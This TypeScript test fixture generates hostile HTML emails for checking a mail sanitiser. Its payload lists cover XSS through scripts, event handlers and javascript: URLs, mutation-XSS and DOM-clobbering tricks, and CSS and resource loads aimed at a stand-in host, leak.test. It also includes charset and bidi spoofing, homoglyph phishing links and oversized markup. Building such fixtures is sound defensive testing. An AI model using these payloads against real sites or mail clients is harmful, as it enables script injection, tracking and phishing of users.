/**
 * HTML mails that try to run a script, to load something, or to spoil the page around them. In each, `{js}` is a script
 * that leaves a trace in the top window, `{url}` an address elsewhere, `{host}` the same without its scheme, `{rel}` one
 * of this server, and `{n}` the number of the mail. A trick is here once for each way that a parser or a sanitiser may
 * be led astray by it.
 */
const scripts: string[] = [
  "<script>{js}</script>",
  "<script src={url}></script>",
  "<script src='{rel}'></script>",
  "<SCRIPT/x>{js}</SCRIPT>",
  "<script type=module>{js}</script><script nomodule>{js}</script>",
  '<script type=importmap>{"imports":{"x":"{url}"}}</script><script type=module>import \'x\'</script>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{url}","{rel}"]}]}</script>',
  "<scr<script>ipt>{js}</scr</script>ipt>",
  "<script\u0000>{js}</script>",
  "<script>/*</script><script>*/{js}//</script>",
  "</title><script>{js}</script>",
  "<!--><script>{js}</script>-->",
  "<!--!><script>{js}</script>-->",
  "<![CDATA[<script>{js}</script>]]>",
  '<?xml version="1.0"?><script>{js}</script><?php {js} ?>',
  "<xss><script>{js}</script></xss>",
  "<b <script>{js}</script>>",
  "<script>{js}",
  "<div><script>{js}</div>",
  "<head><script>{js}</script></head><body onload={js}><script>{js}</script></body>",
  "<template><script>{js}</script></template>",
  "<div><template shadowrootmode=open><script>{js}</script><img src=x onerror={js}><slot></slot></template></div>",
  "<noscript><p title='</noscript><img src=x onerror={js}>'></noscript>",
  "<noembed><img title='</noembed><img src=x onerror={js}>'></noembed>",
  "<noframes><p title='</noframes><img src=x onerror={js}>'></noframes>",
  "<xmp><p title='</xmp><img src=x onerror={js}>'></xmp>",
  "<iframe><p title='</iframe><img src=x onerror={js}>'></iframe>",
  "<textarea><p title='</textarea><img src=x onerror={js}>'></textarea>",
  "<title><p title='</title><img src=x onerror={js}>'></title>",
  "<style><p title='</style><img src=x onerror={js}>'></style>",
  "<plaintext><img src=x onerror={js}>",
  "<listing>&lt;img src=x onerror={js}&gt;</listing>",
];

const handlers: string[] = [
  "<img src=x onerror={js}>",
  "<img src=x onerror='{js}'//",
  "<img/src=x/onerror={js}>",
  "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={js}>",
  "<IMG SRC=x ONERROR={js}>",
  "<img \u000conerror={js} src=x>",
  "<img src='x' on error={js} onerror\u0000={js} \"onerror={js}>",
  "<img src=x onerror=&#116;op.ran={n}>",
  "<body onload={js} onpageshow={js} onfocus={js} onhashchange={js} onresize={js}>text",
  "<div onclick={js} onmouseover={js} onmouseenter={js} onpointermove={js}>point here</div>",
  "<input autofocus onfocus={js}><select autofocus onfocus={js}></select>",
  "<p tabindex=0 id=f{n} onfocus={js} autofocus contenteditable>text</p>",
  "<details open ontoggle={js}><summary>text</summary></details>",
  "<marquee onstart={js} onfinish={js} loop=1 width=1>text</marquee>",
  "<video onloadstart={js} onerror={js} src={url}><source onerror={js} src={url}></video>",
  "<audio autoplay onplay={js} onerror={js} src={url}></audio>",
  "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart={js} onanimationend={js}>text</p>",
  "<p style='transition:color 1s;color:red' ontransitionrun={js}>text</p>",
  "<svg onload={js}></svg>",
  "<svg/onload={js}>",
  "<iframe onload={js}></iframe>",
  "<object onerror={js} data={url}></object>",
  "<link rel=stylesheet href={url} onerror={js} onload={js}>",
  "<form onformdata={js} onsubmit={js}><button>send</button></form>",
  "<table background=x onscroll={js}><tr><td onwheel={js}>text</table>",
  "<p onbeforematch={js} hidden=until-found>text</p>",
  "<button popovertarget=p{n}>x</button><p popover id=p{n} onbeforetoggle={js}>text</p>",
  "<dialog open onclose={js} oncancel={js}>text</dialog>",
  "<p oncontentvisibilityautostatechange={js} style='content-visibility:auto'>text</p>",
  "<font size=1 onwebkitanimationend={js} color=red>text</font>",
];

const urls: string[] = [
  "<a href=javascript:{js}>press</a>",
  "<a href='JaVaScRiPt:{js}'>press</a>",
  "<a href=' &#1; javascript:{js}'>press</a>",
  "<a href='java\nscript:{js}'>press</a>",
  "<a href='java&#9;script&colon;{js}'>press</a>",
  "<a href='javascript&#0000058{js}'>press</a>",
  "<a href='\u0000javascript:{js}'>press</a>",
  "<a href='vbscript:{js}'>press</a>",
  "<a href='data:text/html,<script>{js}</script>'>press</a>",
  "<a href='data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4='>press</a>",
  "<a href='blob:{url}'>press</a>",
  "<a href='filesystem:{url}'>press</a>",
  "<a href='view-source:{url}'>press</a>",
  "<a href='file:///etc/passwd'>press</a>",
  "<a href='about:blank'>press</a><a href='chrome://settings'>press</a>",
  "<a href='intent://x#Intent;scheme=javascript;end'>press</a><a href='ms-msdt:/id x'>press</a><a href='search-ms:query=x'>press</a>",
  "<a href='{rel}'>press</a>",
  "<a href='../../{rel}'>press</a>",
  "<a href='http:{rel}'>press</a>",
  "<a href='?x={n}'>press</a><a href='#/settings'>press</a><a href=''>press</a>",
  "<a href='{url}' ping='{url} {rel}' target=_top rel=opener download>press</a>",
  "<a href='{url}' target=_parent>press</a><a href='{url}' target=mail>press</a>",
  "<a attributionsrc='{url}' href='{url}'>press</a>",
  "<a href='mailto:x@leak.test?attach=/etc/passwd&bcc=y@leak.test&body=%0d%0aX'>press</a>",
  "<a href='tel:*%2306%23'>press</a><a href='sms:1'>press</a>",
  "<map name=m><area shape=default href=javascript:{js} ping={url}></map><img usemap=#m src=x width=50 height=50>",
  "<base href='{url}'><img src=x><a href=y>press</a>",
  "<base target=_top><a href={url}>press</a>",
  "<meta http-equiv=refresh content='0;url={url}'>",
  "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
  "<meta http-equiv=refresh content='0;url={rel}'>",
  "<meta http-equiv=Set-Cookie content='x=1'><meta http-equiv=Content-Security-Policy content='default-src *'>",
  "<meta name=referrer content=unsafe-url><meta charset=utf-7>",
  "<form action={url}><input name=q value=1><button>send</button><input type=image src={url}></form>",
  "<form action=javascript:{js}><button>send</button></form>",
  "<form id=g{n}></form><button form=g{n} formaction=javascript:{js}>send</button>",
  "<isindex action={url} prompt=x><keygen>",
  "<q cite={url}>text</q><blockquote cite={url}>text</blockquote><del cite={url}>text</del>",
];

const loads: string[] = [
  "<img src={url}>",
  "<img src=//{host}/{n}>",
  "<img src='/\\{host}/{n}'>",
  "<img src='\\\\{host}\\{n}'>",
  "<img src='{rel}'>",
  "<img src='http:{rel}'>",
  "<img src='http:/{rel}'>",
  "<img src=x srcset='{url} 1x, {url}b 2x' sizes=100vw>",
  "<img srcset={url}>",
  "<picture><source srcset={url}><img alt=text></picture>",
  "<img lowsrc={url} dynsrc={url} longdesc={url} usemap={url}>",
  "<image src={url}><image href={url}>",
  "<input type=image src={url}>",
  "<table background={url}><tr background={url}><td background={url}>text</table><body background={url}>",
  "<bgsound src={url}><embed src={url}><applet archive={url} code={url}></applet>",
  "<object data={url} type=image/png><param name=src value={url}></object>",
  "<object data='{rel}'></object><embed src='{rel}'>",
  "<iframe src={url}></iframe><frame src={url}>",
  "<iframe src='{rel}'></iframe>",
  "<iframe srcdoc='<script>{js}</script><img src={url}>'></iframe>",
  "<iframe src=javascript:{js}></iframe><iframe src='data:text/html,<script>{js}</script>'></iframe>",
  "<frameset onload={js}><frame src={url}><frame src=javascript:{js}></frameset>",
  "<portal src={url}></portal><fencedframe src={url}></fencedframe>",
  "<video src={url} poster={url} autoplay preload=auto><track default src={url}></video>",
  "<audio src={url} preload=auto></audio><video poster={url}></video>",
  "<link rel=stylesheet href={url}>",
  "<link rel=prefetch href={url}><link rel=preload as=image href={url}><link rel=modulepreload href={url}>",
  "<link rel=dns-prefetch href=//{host}><link rel=preconnect href={url}>",
  "<link rel=prerender href={url}><link rel=manifest href={url}><link rel=icon href={url}>",
  "<link rel=stylesheet href='data:text/css,body{background:url({url})}'>",
  "<svg><image href={url} xlink:href={url} /></svg>",
  "<svg><use href='{url}#x'/><feImage href={url} /></svg>",
  "<svg><style>@import '{url}';</style></svg>",
  "<svg><filter id=f{n}><feImage xlink:href={url} /></filter></svg><p style='filter:url(#f{n})'>text</p>",
  "<img src=cid:nobody@nowhere><img src='cid:{url}'>",
  '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><image href="{url}"/></svg>\'>',
  "<img src='data:text/html,<script>{js}</script>'><img src=blob:{url}>",
  "<img crossorigin=use-credentials src={url}><img loading=eager fetchpriority=high src={url}>",
  "<img attributionsrc={url} src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>",
  "<math href={url}><maction actiontype=statusline href=javascript:{js}>x</maction></math>",
];

const styles: string[] = [
  "<p style='background:url({url})'>text</p>",
  "<p style='background-image:url(\"{url}\")'>text</p>",
  "<p style='background:u\\72l({url})'>text</p>",
  "<p style='background:\\75\\72\\6c({url})'>text</p>",
  "<p style='background:/**/url/**/({url})'>text</p>",
  "<p style='background:URL({rel})'>text</p>",
  "<p style='background:image-set(\"{url}\" 1x)'>text</p>",
  "<p style='background:-webkit-image-set(url({url}) 1x)'>text</p>",
  "<p style='background:cross-fade(url({url}),url({url}),50%)'>text</p>",
  "<p style='--x:url({url});background:var(--x)'>text</p>",
  "<p style='background:var(--y,\\75rl({url}))'>text</p>",
  "<p style='list-style:url({url});display:list-item'>text</p>",
  "<p style='cursor:url({url}),auto'>text</p>",
  "<p style='border-image:url({url}) 30 round;border:9px solid'>text</p>",
  "<p style='mask:url({url});-webkit-mask-image:url({url})'>text</p>",
  "<p style='filter:url({url}#x);clip-path:url({url}#x)'>text</p>",
  "<p style='content:url({url});shape-outside:url({url});float:left'>text</p>",
  "<p style='offset-path:url({url}#x);background:src(\"{url}\")'>text</p>",
  "<p style='font-family:x;src:url({url})'>text</p><style>@font-face{font-family:x;src:url({url})}</style>",
  "<style>@import url({url});@import '{url}';</style>",
  "<style>*{background:url({url})}</style>",
  "<style>p[title^=a]{background:url({url})}</style><p title=abc>text</p>",
  "<style>p::after{content:url({url})} p{color:red}</style><p>text</p>",
  "<style media='{url}'>x{}</style><style type='text/css'></style><script>{js}</script>",
  "<p style='width:expression({js});behavior:url({url});-moz-binding:url({url})'>text</p>",
  "<p style=\"background:url('javascript:{js}')\">text</p>",
  "<p style='color:red;}</style><script>{js}</script>'>text</p>",
  "<p style='position:fixed;inset:0;z-index:2147483647;background:red'>over all</p>",
  "<p style='position:absolute;top:-500px;left:-500px;width:5000px;height:5000px;background:red'>over all</p>",
  "<p style='position:sticky;top:0;transform:translate(-500px,-500px) scale(50)'>over all</p>",
  "<p style='height:100vh;margin-top:calc(100vh + 10px)'>it grows</p>",
  "<p style='height:9999999px;width:9999999px'>large</p>",
  "<p style='margin:-9999px;font-size:9999px;letter-spacing:9999px'>large</p>",
  "<p style='animation:x 1ms infinite;view-transition-name:root;anchor-name:--a'>text</p>",
  "<p style='color:red!important;position:fixed!important;top:0!important'>text</p>",
];

const mutations: string[] = [
  '<svg></p><style><a id="</style><img src=x onerror={js}>">',
  '<svg><p><style><g title="</style><img src=x onerror={js}>"></g></style></p></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={js}&gt;">',
  '<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror={js}">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror={js}>">',
  "<math><annotation-xml encoding=text/html><script>{js}</script><img src=x onerror={js}></annotation-xml></math>",
  "<svg><foreignObject><iframe srcdoc='<script>{js}</script>'></iframe></foreignObject></svg>",
  "<svg><desc><img src=x onerror={js}></desc><title><img src=x onerror={js}></title></svg>",
  "<svg><script>{js}</script><script href={url} /></svg>",
  "<svg><a xlink:href=javascript:{js}><text y=20>press</text></a></svg>",
  "<svg><animate attributeName=href values=javascript:{js} /><a id=a><text y=20>press</text></a></svg>",
  "<svg><set attributeName=onmouseover to={js} /><rect width=9 height=9 /></svg>",
  "<svg><discard onbegin={js} /><animate onbegin={js} attributeName=x dur=1s /></svg>",
  "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{js}</handler></svg>",
  "<svg xmlns:xlink='http://www.w3.org/1999/xlink'><use xlink:href='data:image/svg+xml,<svg onload={js} id=x />#x'/></svg>",
  "<div xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{js}</x:script><x:img src='x' onerror='{js}'/></div>",
  "<html xmlns:v='urn:schemas-microsoft-com:vml'><v:shape><v:imagedata src={url} /></v:shape><v:vmlframe src={url} /></html>",
  "<!--[if gte IE 4]><script>{js}</script><![endif]--><!--[if mso]><img src={url}><![endif]-->",
  "<a title='`><img src=x onerror={js}>`'>text</a>",
  '<img alt=\'"><img src=x onerror={js}>\' src=x><p title="--><script>{js}</script>">text</p>',
  "<p>\u00a0<img src='x`' `onerror={js}>",
  "<select><template><option><img src=x onerror={js}></template></select><select><style></select><img src=x onerror={js}>",
  "<table><a href=javascript:{js}><tr><td><caption><svg><img src=x onerror={js}></table>",
  "<a><table><td><a><table></table><p title='</a><img src=x onerror={js}>'></a></td></table>",
  "<p id=x is=x-a><x-a><slot></slot></x-a><custom-element onclick={js}>text</custom-element>",
  "<b><p><i><b><p><i><script>{js}</script></b></i></p><img src=x onerror={js}></i>",
];

const clobbering: string[] = [
  "<form name=body></form><form id=documentElement></form><img name=head src=x>",
  "<form><input name=attributes><input name=nodeName><input name=removeAttribute></form>",
  "<form id=x><input name=parentNode><input name=childNodes><input name=firstChild></form>",
  "<img name=cookie src=x><img name=querySelector src=x><img name=addEventListener src=x>",
  "<a id=location href=javascript:{js}></a><a id=top></a><a id=parent></a><iframe name=top></iframe>",
  "<a id=defaultView></a><a id=defaultView name=getComputedStyle></a><p id=__proto__>text</p>",
  "<p id=app class='dialog toast visually-hidden' role=alert aria-live=assertive>not of this page</p>",
  "<p aria-label='all is well' aria-hidden=true role=dialog data-fold=quote data-x=1>text</p>",
  "<p accesskey=c tabindex=1 contenteditable draggable=true autofocus>text</p>",
  "<input type=password name=password autocomplete=current-password><input type=hidden value=x>",
  "<p is=x slot=y part=z nonce=n itemprop=a itemref=b>text</p>",
];

const nested = (open: string, close: string, times: number) => `${open.repeat(times)}deep${close.repeat(times)}`;

const sizes: string[] = [
  nested("<div>", "</div>", 3_000),
  nested("<b>", "</b>", 2_000),
  nested("<table><tr><td>", "</td></tr></table>", 800),
  nested("<blockquote type=cite>", "</blockquote>", 1_000),
  `<p ${"a".repeat(100_000)}=1>long name</p><p title='${"x".repeat(100_000)}'>long value</p>`,
  `<p ${Array.from({ length: 5_000 }, (_, i) => `a${i}=1`).join(" ")}>many attributes</p>`,
  `<p style='${"color:red;".repeat(20_000)}'>many styles</p>`,
  "<i>x</i>".repeat(5_000),
  `${"x".repeat(300_000)}<img src=x onerror={js}>`,
  `${"&lt;".repeat(50_000)}img src=x onerror={js}&gt;`,
  `${"<blockquote class=gmail_quote>x</blockquote>".repeat(2_000)}`,
  `<table><tr>${"<td>x</td>".repeat(5_000)}</tr></table>`,
];

const texts: string[] = [
  "<p>\u202egpj.exe\u202c <a href={url}>\u202emoc.knab\u202c</a></p>",
  "<p>\u2066\u2067\u202d\u202e never closed",
  "<p dir=rtl>\u05d0<bdo dir=rtl>abc</bdo><bdi>\u202e</bdi></p>",
  "<p>a\u0300\u0301\u0302\u0303\u0304\u0305".padEnd(5_000, "\u0336"),
  "<p>\ufeff\u200b\u200c\u200d\u2060<a href='https://b\u0430nk.test/{n}'>bank.test</a></p>",
  "<p>\ufffe\uffff\ud83d</p><img src=x onerror={js}>",
  "\u0000<\u0000p\u0000>text<\u0000img src=x onerror={js}>",
  "+ADw-script+AD4-{js}+ADw-/script+AD4-",
  "\u00bcscript\u00be{js}\u00bc/script\u00be",
  "<a href='https://user:password@{host}/{n}'>https://bank.test</a>",
  "<a href='https://{host}/{n}'>https://bank.test/login</a><a href='https://[::1]/{n}'>bank</a>",
  "&lt;script&gt;{js}&lt;/script&gt; &amp;lt;script&amp;gt;{js}",
];

/** Mails whose parts are not what they seem; the rest are HTML. `{html}` is a trick, in base64 or as it is. */
const parts: { headers: string; body: string }[] = [
  {
    headers: "Content-Type: text/html; charset=utf-7",
    body: "+ADw-script+AD4-{js}+ADw-/script+AD4-<img src=x onerror={js}>",
  },
  { headers: "Content-Type: text/html; charset=utf-16", body: "<script>{js}</script><img src=x onerror={js}>" },
  { headers: "Content-Type: text/html; charset=x-unknown", body: "<script>{js}</script><img src=x onerror={js}>" },
  {
    headers: "Content-Type: text/html; charset=iso-2022-jp",
    body: "\u001b$B<script>{js}</script>\u001b(B<img src=x onerror={js}>",
  },
  {
    headers: "Content-Type: application/xhtml+xml",
    body: "<html xmlns='http://www.w3.org/1999/xhtml'><script>{js}</script></html>",
  },
  {
    headers: "Content-Type: image/svg+xml\r\nContent-Disposition: inline; filename=a.svg",
    body: "<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>",
  },
  {
    headers: "Content-Type: text/plain",
    body: "<script>{js}</script> javascript:{js} https://leak.test/{n}/\u202emoc",
  },
  {
    headers: 'Content-Type: text/html\r\nContent-Disposition: attachment; filename="a.html"',
    body: "<script>{js}</script>",
  },
  {
    headers: "Content-Type: multipart/related; boundary=b",
    body:
      "--b\r\nContent-Type: text/html\r\n\r\n<img src=cid:a><iframe src=cid:a></iframe><a href=cid:a>x</a><object data=cid:a></object>\r\n" +
      "--b\r\nContent-Type: text/html\r\nContent-ID: <a>\r\n\r\n<script>{js}</script>\r\n--b--",
  },
  {
    headers: "Content-Type: multipart/related; boundary=b",
    body:
      "--b\r\nContent-Type: text/html\r\n\r\n<img src=cid:s>\r\n" +
      "--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <s>\r\n\r\n<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'><image href='{url}'/></svg>\r\n--b--",
  },
  {
    headers: "Content-Type: multipart/mixed; boundary=b",
    body:
      "--b\r\nContent-Type: text/html\r\n\r\n<div title='\r\n--b\r\nContent-Type: text/html\r\n\r\n'><img src=x onerror={js}>\r\n" +
      '--b\r\nContent-Type: image/png; name="<img src=x onerror={js}>.png"\r\n\r\nno picture\r\n--b--',
  },
  {
    headers: "Content-Type: text/calendar; method=REQUEST",
    body:
      "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:<img src=x onerror={js}>\r\nDTSTART:20261201T100000Z\r\n" +
      'LOCATION:javascript:{js}\r\nURL:javascript:{js}\r\nORGANIZER;CN="<script>{js}</script>":javascript:{js}\r\nEND:VEVENT\r\nEND:VCALENDAR',
  },
];

export interface HostileMail {
  /** From 1. */
  number: number;
  /** The trick, as a name for the report. */
  name: string;
  source: string;
  /** Its HTML, if it is all HTML. */
  html?: string;
}

const groups = { scripts, handlers, urls, loads, styles, mutations, clobbering, sizes, texts };
const isHtml = Object.entries(groups).flatMap(([group, tricks]) => tricks.map((html) => ({ group, html })));

/** The address that the mails try to reach; nothing answers there but a test's own listener. */
export const leakHost = "leak.test";
export const leakPath = "/leak/";

function filled(text: string, number: number): string {
  return text
    .replaceAll("{js}", `top.ran=${number}`)
    .replaceAll("{url}", `http://${leakHost}/${number}`)
    .replaceAll("{host}", leakHost)
    .replaceAll("{rel}", `${leakPath}${number}`)
    .replaceAll("{n}", String(number));
}

/** All of them, each in a conversation of its own unless `thread` names one for its number. */
export function hostileMails(thread: (number: number) => string): HostileMail[] {
  const mail = (number: number, name: string, headers: string, body: string): HostileMail => {
    const id = `<${thread(number)}@hostile.example>`;
    const fields = [
      'From: "<img src=x onerror=top.ran=1>" <mallory@hostile.example>',
      "To: <somebody@example.org>",
      `Subject: ${thread(number)}`,
      `Date: Tue, 01 Dec 2026 10:00:00 +0000`,
      `Message-ID: <${number}@hostile.example>`,
      ...[`References: ${id}`, "MIME-Version: 1.0", headers],
    ];
    return { number, name, source: `${fields.join("\r\n")}\r\n\r\n${filled(body, number)}\r\n` };
  };
  const html = isHtml.map(({ group, html }, index) => ({
    ...mail(
      index + 1,
      `${group}: ${html.slice(0, 60)}`,
      "Content-Type: text/html; charset=utf-8",
      `<p>before</p>${html}`,
    ),
    html: filled(html, index + 1),
  }));
  const others = parts.map(({ headers, body }, index) =>
    mail(html.length + index + 1, `parts: ${headers.split("\r\n")[0]}`, headers, body),
  );
  return [...html, ...others];
}
